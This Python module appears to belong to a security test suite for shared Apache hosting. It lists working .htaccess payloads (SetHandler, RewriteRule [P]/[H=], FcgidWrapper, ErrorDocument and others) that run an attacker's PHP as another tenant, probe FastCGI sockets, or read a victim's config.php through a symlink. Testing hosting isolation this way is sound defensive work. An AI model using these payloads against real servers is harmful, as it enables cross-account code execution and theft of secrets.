"""Make Apache hand a request to somebody else's PHP (SEC-01, SEC-04, SEC-05)."""

from __future__ import annotations

import os
from typing import Callable

from .ground import MAPPING, WHO, Ground, Outcome, attack, by_apache, stopped, succeeded

WHOAMI = f"<?php {WHO}"
PROXY = "proxy:unix:SOCKET|fcgi://localhost"
NAMED = f'<Files x.php>\nSetHandler "{PROXY}"\n</Files>\n'
TO_VICTIM = "ProxyFCGISetEnvIf true SCRIPT_FILENAME VICTIM_ROOT/whoami.php\n"
REWRITE = "RewriteEngine on\nRewriteRule"

# Name, .htaccess, path to ask for. With x.php it is the attacker's code that runs as the victim. For page.txt
# the server has no rule of its own; there it is a script of the victim's.
VECTORS = (
    ("SetHandler in <Files>", NAMED, "x.php"),
    ("SetHandler in <If>", f'<If true>\nSetHandler "{PROXY}"\n</If>', "x.php"),
    ("SetHandler for a script of the victim", f'SetHandler "{PROXY}"\n{TO_VICTIM}', "page.txt"),
    (
        "SetHandler in <If> for a script of the victim",
        f'<If true>\nSetHandler "{PROXY}"\n</If>\n{TO_VICTIM}',
        "page.txt",
    ),
    ("AddHandler", f'AddHandler "{PROXY}" .txt\n{TO_VICTIM}', "page.txt"),
    ("RewriteRule [H=] for a script of one's own", f'{REWRITE} ^x.php$ - "[H={PROXY}]"', "x.php"),
    (
        "RewriteRule [H=] for a script of the victim",
        f'{REWRITE} ^page.txt$ - "[H={PROXY}]"\n{TO_VICTIM}',
        "page.txt",
    ),
    ("RewriteRule [P]", f'{REWRITE} ^x$ "unix:SOCKET|fcgi://localhost/VICTIM_ROOT/whoami.php" [P]', "x"),
    ("the victim's worker, by its name", f'SetHandler "proxy:WORKER/"\n{TO_VICTIM}', "page.txt"),
    ("the victim's worker, by its name and [P]", f'{REWRITE} ^x$ "WORKER/VICTIM_ROOT/whoami.php" [P]', "x"),
    (
        "the worker of the victim's probe, by its name",
        f'{REWRITE} ^x$ "WORKER/fastcgi-ping" [P]\n{TO_VICTIM}',
        "x",
    ),
    ("through DirectoryIndex", f"DirectoryIndex x.php\n{NAMED}", ""),
    ("through ErrorDocument", f"ErrorDocument 404 URL/x.php\n{NAMED}", "missing"),
    ("through FallbackResource", f"FallbackResource URL/x.php\n{NAMED}", "missing"),
    ("through Action", f"AddHandler evil .txt\nAction evil URL/x.php\n{NAMED}", "page.txt"),
)


def vector(htaccess: str, path: str) -> Callable[[Ground], Outcome]:
    def run(ground: Ground) -> Outcome:
        files = {".htaccess": htaccess, "x.php": WHOAMI, "page.txt": "page"}
        answer = ground.page(files, path)
        if ground.reached(answer):
            return succeeded(answer)
        # the rules of the virtual host come after those of .htaccess, so it was the attacker's own PHP
        own = f"ran-as={ground.attacker.user};" in answer.body
        return stopped(MAPPING, answer) if own else by_apache(answer)

    return run


for name, htaccess, path in VECTORS:
    attack(f"handler: {name}", "SEC-01, I04")(vector(htaccess, path))


for name, htaccess in (
    ("SetHandler of mod_fastcgi_handler", '<Files x.php>\nSetHandler "fcgi:SOCKET"\n</Files>\n'),
    ("RewriteRule [H=] of mod_fastcgi_handler", f'{REWRITE} ^x.php$ - "[H=fcgi:SOCKET]"'),
):
    attack(f"handler: {name}", "SEC-01, I04", engines=("mod_fastcgi_handler",))(vector(htaccess, "x.php"))


@attack("handler: a socket of mod_fcgid", "SEC-04", engines=("fcgid",))
def socket_of_mod_fcgid(ground: Ground) -> Outcome:
    """They have names that count up; the attacker need not see them."""
    for path in ground.addresses():
        htaccess = f'<Files x.php>\nSetHandler "proxy:unix:{path}|fcgi://localhost"\n</Files>\n'
        htaccess += "ProxyFCGIBackendType GENERIC\n" + TO_VICTIM
        answer = ground.page({".htaccess": htaccess, "x.php": WHOAMI}, "x.php")
        if ground.reached(answer):
            return succeeded(answer)
    return by_apache(answer)


@attack("handler: FcgidWrapper", "SEC-01", engines=("fcgid",))
def wrapper_of_the_tenant(ground: Ground) -> Outcome:
    """A program of the attacker's, started by Apache under somebody else's account."""
    program = '#!/bin/sh\necho "ran-as=$(id --user --name);" > HERE/told\nexec php-cgi\n'
    htaccess = (
        "FcgidWrapper HERE/program .php\n<Files x.php>\nSetHandler fcgid-script\n</Files>\nOptions +ExecCGI\n"
    )
    answer = ground.page({".htaccess": htaccess, "program": program, "x.php": WHOAMI, "told": ""}, "x.php")
    return succeeded(answer) if ground.foreign(answer) else by_apache(answer)


@attack("handler: source of the victim's script shown", "M09, SEC-44")
def source_shown(ground: Ground) -> Outcome:
    """A link to it has another name, which no rule about PHP is for."""
    name = ground.upload({".htaccess": "<Files link.txt>\nSetHandler default-handler\n</Files>\n"})
    with ground.account(ground.attacker.user):
        os.symlink(f"{ground.victim.root}/config.php", f"{ground.attacker.root}/{name}/link.txt")
    answer = ground.request(ground.attacker, f"/{name}/link.txt")
    return succeeded(answer) if ground.reached(answer) else by_apache(answer)
